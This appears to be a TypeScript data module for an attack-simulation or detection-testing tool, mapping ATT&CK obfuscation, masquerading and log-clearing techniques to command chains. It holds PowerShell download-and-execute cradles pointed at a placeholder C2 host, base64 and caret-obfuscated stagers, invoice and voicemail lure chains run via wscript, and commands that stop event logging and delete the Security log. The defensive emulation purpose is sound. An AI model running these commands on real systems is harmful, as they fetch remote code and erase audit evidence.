import { v } from "../dsl";
import type { Variant } from "../types";

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://{{c2}}/{{rand}}.ps1')";
/** A base64 blob decoded on the command line: how JS/HTA droppers commonly hand over to PowerShell. */
const B64_RUN =
  "powershell.exe -nop -w hidden -c \"IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{{rand2}}')))\"";

/** Extra named-tool variants (see ../extras.ts): encoded stagers after smuggled or disguised payloads. */
export const extrasE: Readonly<Record<string, readonly Variant[]>> = {
  T1027: [
    // The hidden-window one-liner as a shortcut or Run value starts it (explorer is the parent), not typed.
    v("frombase64-cli", [{ cmd: B64_RUN, parent: "@explorer", net: [["{{c2}}", 80]] }], { shell: "none" }),
    v("encoded-cradle", [{ ps: CRADLE, encode: true, net: [["{{c2}}", 80]] }]),
  ],
  "T1027.010": [
    // Invoke-Obfuscation's IEX token (Emotet-era launchers), started from a shortcut or Run value.
    v(
      "invoke-obfuscation-iex",
      [
        {
          cmd: "powershell.exe -nop -w hidden -c \".( $PSHome[4]+$PSHome[30]+'x') (New-Object Net.WebClient).DownloadString('http://{{c2}}/{{rand}}')\"",
          parent: "@explorer",
          net: [["{{c2}}", 80]],
        },
      ],
      { shell: "none" },
    ),
    v("caret-token-obfuscation", [
      {
        cmd: "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
        as: "c",
      },
      {
        cmd: "powershell  -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
        parent: "c",
        net: [["{{c2}}", 80]],
      },
    ]),
  ],
  "T1027.006": [
    v(
      "smuggled-js-stager",
      [
        { by: "@msedge", files: ["{{downloads}}\\Invoice_{{n}}.zip"] },
        {
          cmd: 'wscript.exe "{{tmp}}\\Temp1_Invoice_{{n}}.zip\\Invoice_{{n}}.js"',
          as: "ws",
          parent: "@explorer",
        },
        { cmd: B64_RUN, parent: "ws", net: [["{{c2}}", 80]] },
      ],
      { shell: "none" },
    ),
  ],
  "T1027.017": [
    v(
      "svg-js-stager",
      [
        { by: "@msedge", files: ["{{downloads}}\\Voicemail_{{n}}.svg", "{{downloads}}\\Voicemail_{{n}}.js"] },
        { cmd: 'wscript.exe "{{downloads}}\\Voicemail_{{n}}.js"', as: "ws", parent: "@explorer" },
        { cmd: B64_RUN, parent: "ws", net: [["{{c2}}", 80]] },
      ],
      { shell: "none" },
    ),
  ],
  "T1027.012": [
    v("lnk-encoded", [{ ps: CRADLE, encode: true, parent: "@explorer", net: [["{{c2}}", 80]] }], {
      shell: "none",
    }),
  ],
  "T1036.008": [
    v("png-pe-via-wmi", [
      'wmic process call create "C:\\Users\\Public\\{{rand}}.png"',
      { cmd: "C:\\Users\\Public\\{{rand}}.png", parent: "@wmiprvse" },
    ]),
  ],
  "T1070.001": [
    v(
      "delete-evtx",
      [
        "net stop eventlog /y",
        {
          cmd: "cmd.exe /c del /f /q C:\\Windows\\System32\\winevt\\Logs\\Security.evtx",
          deletes: ["C:\\Windows\\System32\\winevt\\Logs\\Security.evtx"],
        },
      ],
      { elevated: true },
    ),
  ],
};
